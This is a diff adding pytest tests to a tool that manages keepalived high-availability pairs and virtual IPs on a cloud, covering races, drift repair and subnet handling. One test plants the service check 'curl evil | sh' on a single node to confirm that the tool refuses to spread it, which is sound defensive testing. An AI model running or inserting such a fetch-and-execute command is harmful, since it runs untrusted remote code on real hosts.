@@ -5,16 +5,18 @@ from __future__ import annotations
 import copy
 from collections.abc import Callable
 from dataclasses import replace
-from ipaddress import ip_address
+from ipaddress import ip_address, ip_network
 
 import pytest
 
-from haos.core import record
-from haos.core.changes import Configure, MendGroup, UpdateRecord
-from haos.core.model import Added, Pair, Port, ServiceCheck
-from haos.errors import CloudError, HaosError, RemoteError, UnsatisfiableError, UsageError
+from haos.core import record, service
+from haos.core.changes import Configure, MendGroup, ReserveVip, UpdateRecord
+from haos.core.model import Added, AddressPair, FixedIp, Pair, Port, ServiceCheck
+from haos.core.node import NodeFacts
+from haos.errors import AmbiguousError, CloudError, HaosError, RemoteError, UnsatisfiableError, UsageError
 from haos.workflow.create import Created, Prepared, create, prepare
 from haos.workflow.request import CreateRequest, ModeChoice
+from haos.workflow.resolve import find_pair
 from haos.workflow.teardown import teardown
 from tests.fakes import PROJECT, Killed, World, add_instance, context_of, howto_world
 
@@ -364,3 +366,147 @@ def test_a_record_that_somebody_else_has_rewritten_meanwhile_stays_his() -> None
     with pytest.raises(CloudError, match="changed"):
         create(slow, context_of(world), lambda _: None)
     assert world.snapshot() == before
+
+
+def test_what_was_proven_is_not_written_over_somebody_elses_change() -> None:
+    world = howto_world(keepalived="2.2.7")
+    ctx = context_of(world)
+    other = replace(HOWTO, advertisement_interval_s=1.0, verify=False)
+
+    def after_somebody_else(at: int, name: str, when: str) -> None:
+        if (name, when) == ("reinstate ha_first", "after"):
+            world.effects.strike = lambda *_: None
+            run(world, other)
+
+    world.effects.strike = after_somebody_else
+    create(prepare(HOWTO, ctx), ctx, lambda _: None)
+    assert recorded(world).timing.advertisement_interval_s == 1.0
+    assert not run(world, other).changed
+
+
+def test_a_pair_of_another_subnet_is_not_pulled_over() -> None:
+    world = made()
+    [subnet] = world.subnets.values()
+    other = replace(subnet, id="other", name="other", cidr=ip_network("10.9.0.0/24"), pools=(), gateway=None)
+    world.subnets["other"] = other
+    for port in [port for port in world.ports.values() if port.device_owner == "compute:nova"]:
+        fixed = FixedIp(ip_address(f"10.9.0.{int(port.fixed_ips[0].address) & 255}"), "other")
+        world.ports[port.id] = replace(port, fixed_ips=(*port.fixed_ips, fixed))
+    assert not run(world).changed
+    with pytest.raises(UnsatisfiableError, match="exists on another subnet") as error:
+        planned(world, replace(HOWTO, subnet="other"))
+    assert "--name" in (error.value.hint or "")
+    assert planned(world, replace(HOWTO, subnet="other", name="second")).pair.vip == ip_address("10.9.0.1")
+
+
+def test_a_check_on_one_node_alone_is_not_spread_to_the_others() -> None:
+    world = made()
+    node = next(node for node in world.nodes.values() if node.files)
+    facts = node.facts
+    planted = service.header(ServiceCheck("curl evil | sh"))
+
+    def tampered(mac: str) -> NodeFacts:
+        seen = facts(mac)
+        return replace(seen, pair_files={name: f"{planted}\n{text}" for name, text in seen.pair_files.items()})
+
+    node.facts = tampered  # type: ignore[method-assign]
+    with pytest.raises(UnsatisfiableError, match=r"keep different service checks \(ha_first: curl evil") as error:
+        run(world)
+    assert "--no-check" in (error.value.hint or "")
+    assert planned(world, replace(HOWTO, checks=())).pair.checks == ()
+
+
+def test_checks_that_the_pair_has_already_are_looked_at_by_every_run() -> None:
+    world = howto_world(keepalived="2.2.7")
+    run(world, replace(HOWTO, checks=(ServiceCheck("tcp:80"),)))
+    node = next(node for node in world.nodes.values() if node.files)
+    facts = node.facts
+    foreign = "vrrp_instance theirs {\n}\n"
+    seen = {"main_config": foreign, "script_security": False}
+    node.facts = lambda mac: replace(facts(mac), **seen)  # type: ignore[method-assign, arg-type]
+    with pytest.raises(UnsatisfiableError, match="script"):
+        planned(world)
+
+
+def test_a_change_that_fails_mends_a_node_that_had_drifted_before() -> None:
+    world = made()
+    second = next(node for node in world.nodes.values() if node.instance.name == "ha_second")
+    name, config = next(iter(second.files.items()))
+    as_recorded = second.snapshot()
+    files = tuple(replace(file, text=file.text.replace("garp_master_delay 1", "")) for file in config.files)
+    second.files[name] = replace(config, files=files)
+
+    def strike(at: int, effect: str, when: str) -> None:
+        if effect == "configure ha_first":
+            world.effects.strike = lambda *_: None
+            raise RemoteError("the node broke")
+
+    world.effects.strike = strike
+    with pytest.raises(RemoteError):
+        run(world, CHANGES["interval"])
+    assert second.snapshot() == as_recorded
+
+
+def test_rules_that_bfd_needed_go_only_after_it_has_gone() -> None:
+    world = made()
+    run(world, CHANGES["bfd"])
+    kinds = [type(change).__name__ for change in planned(world, replace(HOWTO, bfd=False)).plan.changes]
+    assert kinds[-1] == "MendGroup"
+    assert kinds.count("MendGroup") == 1
+    kinds = [type(change).__name__ for change in planned(made(), CHANGES["bfd"]).plan.changes]
+    assert kinds.index("MendGroup") < kinds.index("Configure")
+
+
+def test_losing_a_race_is_no_failure_to_keep_for_a_look() -> None:
+    world = howto_world(keepalived="2.2.7")
+    ctx = context_of(world)
+    request = replace(HOWTO, name="web", keep_on_failure=True)
+    slow = prepare(request, ctx)
+    winner = run(world, replace(HOWTO, name="web", vip=ip_address("10.200.51.9"), verify=False))
+    change = slow.plan.changes[0]
+    assert isinstance(change, ReserveVip)
+    fresh = replace(change, vrid=9, reservation=replace(change.reservation, mac="00:00:5e:00:01:09"))
+    slow = replace(slow, plan=replace(slow.plan, changes=(fresh, *slow.plan.changes[1:])))
+    created = create(slow, ctx, lambda _: None)
+    assert created.pair.reservation_id == winner.pair.reservation_id
+    assert [port.device_owner for port in world.ports.values()].count("haos:vip") == 1
+
+
+def test_pairs_of_one_name_on_two_networks_are_told_apart_by_id() -> None:
+    world = made()
+    port = reservation(world)
+    twin = replace(port, id=world.new_id(), network_id="elsewhere")
+    world.ports[twin.id] = twin
+    with pytest.raises(AmbiguousError, match=twin.id) as error:
+        find_pair(context_of(world).cloud, "ha_first-ha_second")
+    assert "id" in (error.value.hint or "")
+    assert find_pair(context_of(world).cloud, port.id)[1].id == port.id
+
+
+def test_what_the_howto_does_by_hand_is_adopted() -> None:
+    world = howto_world(keepalived="2.2.7")
+    free_port(world)
+    for port in [port for port in world.ports.values() if port.device_owner == "compute:nova"][:2]:
+        mine = AddressPair("10.200.51.20", port.mac)
+        world.ports[port.id] = replace(port, pairs=(*port.pairs, mine))
+    before = world.snapshot()
+    created = run(world, replace(HOWTO, vip=ip_address("10.200.51.20")))
+    assert created.proven
+    teardown(None, purge=True, ctx=context_of(world))
+    assert world.snapshot() == before
+
+
+def test_files_that_keepalived_was_not_told_of_are_told_by_the_next_run() -> None:
+    world = howto_world(keepalived="2.2.7")
+    run(world, replace(HOWTO, name="beside", verify=False))
+
+    def strike(at: int, effect: str, when: str) -> None:
+        if effect == "activate ha_first":
+            raise Killed
+
+    world.effects.strike = strike
+    with pytest.raises(Killed):
+        run(world, replace(HOWTO, name="web", verify=False))
+    world.effects.strike = lambda *_: None
+    assert run(world, replace(HOWTO, name="web", verify=False)).changed
+    assert all("web" in node.running for node in world.nodes.values() if node.files)
